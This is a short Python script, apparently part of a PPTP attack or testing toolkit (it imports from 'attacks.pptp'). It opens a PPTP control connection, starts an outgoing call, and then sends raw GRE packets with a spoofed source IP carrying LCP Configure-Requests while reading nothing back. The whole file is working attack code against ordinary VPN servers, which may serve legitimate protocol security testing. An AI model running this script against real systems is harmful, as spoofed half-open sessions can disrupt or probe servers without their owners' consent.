# SPDX-License-Identifier: Apache-2.0
"""A dial by hand that gets no further than GRE: half_dial.py TARGET SECONDS GRE, where GRE is "none", or the address that LCP's
Configure-Requests come from, one a second, while nothing that comes back is read. Ends with the control connection."""
import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from attacks.pptp import PORT, ocrq, sccrq  # noqa: E402

GRE = 47
CONFIGURE_REQUEST = bytes.fromhex("ff03c0210101000801040578")  # MRU 1400


def answer(stream, length):
    octets = b""
    while len(octets) < length:
        part = stream.recv(length - len(octets))
        if not part:
            sys.exit("the server closed the connection")
        octets += part
    return octets


def main():
    target, seconds, source = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    with socket.create_connection((target, PORT), timeout=5) as stream:
        stream.sendall(sccrq())
        answer(stream, 156)
        stream.sendall(ocrq(7))
        call_id = struct.unpack("!H", answer(stream, 32)[12:14])[0]
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        stream.settimeout(1)
        end = time.monotonic() + seconds
        sequence = 0
        while time.monotonic() < end:
            if source != "none":
                frame = struct.pack("!BBHHHI", 0x30, 1, 0x880B, len(CONFIGURE_REQUEST), call_id, sequence) + CONFIGURE_REQUEST
                header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(frame), 0, 0, 64, GRE, 0,
                                     socket.inet_aton(source), socket.inet_aton(target))
                raw.sendto(header + frame, (target, 0))
                sequence += 1
            try:
                if not stream.recv(4096):
                    return
            except TimeoutError:
                pass


if __name__ == "__main__":
    main()
